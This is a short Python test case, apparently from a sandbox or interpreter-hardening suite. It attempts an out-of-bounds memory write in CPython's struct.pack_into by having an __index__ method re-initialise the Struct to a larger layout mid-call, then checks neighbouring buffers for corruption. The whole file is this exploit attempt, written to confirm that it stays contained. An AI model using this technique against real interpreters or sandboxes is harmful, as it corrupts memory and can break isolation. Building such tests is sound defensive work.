# escape: 225
# policy-wall: optional; it changes its own process alone
# technique: Struct.pack_into with __index__ that re-inits the Struct to offsets beyond the buffer
# family: memory
# goal: memory
# expect: contained
import struct
big = '8000x' + 'q'
s = struct.Struct('qq')
buf = bytearray(16)
near = [bytearray(b'\0' * 64) for _ in range(2000)]
class Evil:
    def __index__(self):
        s.__init__('8000xq')
        return 0x4242424242424242
for _ in range(20):
    s.__init__('qq')
    try:
        s.pack_into(buf, 0, Evil(), 0x4343434343434343)
    except struct.error:
        pass
    if buf[8:] not in (b'C' * 8, bytes(8)) or any(any(b) for b in near):
        print('ESCAPED: pack_into wrote outside')
        break
